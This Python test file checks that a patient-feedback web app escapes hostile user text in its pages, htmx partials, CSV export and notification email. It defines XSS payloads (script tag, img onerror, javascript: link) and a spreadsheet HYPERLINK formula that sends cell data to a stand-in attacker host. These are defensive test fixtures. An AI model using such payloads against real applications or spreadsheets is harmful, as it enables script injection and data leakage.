"""Hostile text stored by a patient or a member of staff comes back as text everywhere it is
shown: full pages, the htmx partials that replace parts of them, the CSV a spreadsheet opens,
and the "you said, we did" email. (The PDF's case is in test_report_pdf.py.)"""

from __future__ import annotations

import csv
import io

from feedback.services.feedback_items import NewFeedback, record_feedback
from feedback.services.improvements import render_email
from feedback.services.routing import open_tickets
from feedback.tables import FeedbackItem, TicketFeedback
from tests import factories
from tests.conftest import sign_in

PAYLOAD = '<script>alert("x")</script><img src=x onerror=alert(1)> the billing was wrong'
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click") billing was wrong again'
HTMX = {"HX-Request": "true"}


async def _hostile_feedback() -> int:
    department = await factories.department("Billing")
    for text in (PAYLOAD, FORMULA):
        item = await record_feedback(
            NewFeedback(source="api", department_id=department, text=text, rating=1)
        )
        await open_tickets(await FeedbackItem.select().where(FeedbackItem.id == item))
    return department


async def test_hostile_comments_are_text_in_pages_and_partials(client):
    department = await _hostile_feedback()
    await sign_in(client, await factories.staff("lead", department), factories.PASSWORD)
    for path, headers in (
        ("/feedback", {}),
        ("/feedback", HTMX),
        ("/kudos", {}),
        ("/tickets?status=all&q=billing", HTMX),
    ):
        page = await client.get(path, headers=headers)
        assert page.status_code == 200
        assert "<script>alert" not in page.text and "<img src=x" not in page.text, path
    [link] = await TicketFeedback.select(TicketFeedback.ticket).where(
        TicketFeedback.feedback_item.text == PAYLOAD
    )
    page = await client.get(f"/tickets/{link['ticket']}")
    assert page.status_code == 200 and "&lt;script&gt;alert" in page.text
    for headers in ({}, HTMX):
        page = await client.get(f"/tickets/{link['ticket']}", headers=headers)
        assert "<script>alert" not in page.text and "<img src=x" not in page.text


async def test_hostile_comments_cannot_run_as_formulas_in_the_csv(client):
    department = await _hostile_feedback()
    await sign_in(client, await factories.staff("lead", department), factories.PASSWORD)
    export = await client.get("/feedback/export.csv")
    assert export.status_code == 200
    texts = [row["text"] for row in csv.DictReader(io.StringIO(export.text))]
    assert f"'{FORMULA}" in texts  # shown as text, not run
    assert PAYLOAD in texts  # plain text in a CSV; no cell starts with = + - @
    for row in csv.reader(io.StringIO(export.text)):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_a_hostile_improvement_title_is_text_in_the_email():
    subject, _, html = render_email(
        {"title": PAYLOAD, "body": '<a href="javascript:alert(1)">more</a>', "slug": "x"},
        "https://px.example",
        "https://px.example/unsubscribe/abc",
        "https://px.example/t/1.abc",
    )
    assert "<script>" not in html and "<img src=x" not in html
    assert 'href="javascript:' not in html
    assert "&lt;script&gt;" in html
    assert "\n" not in subject and "<script>" not in subject
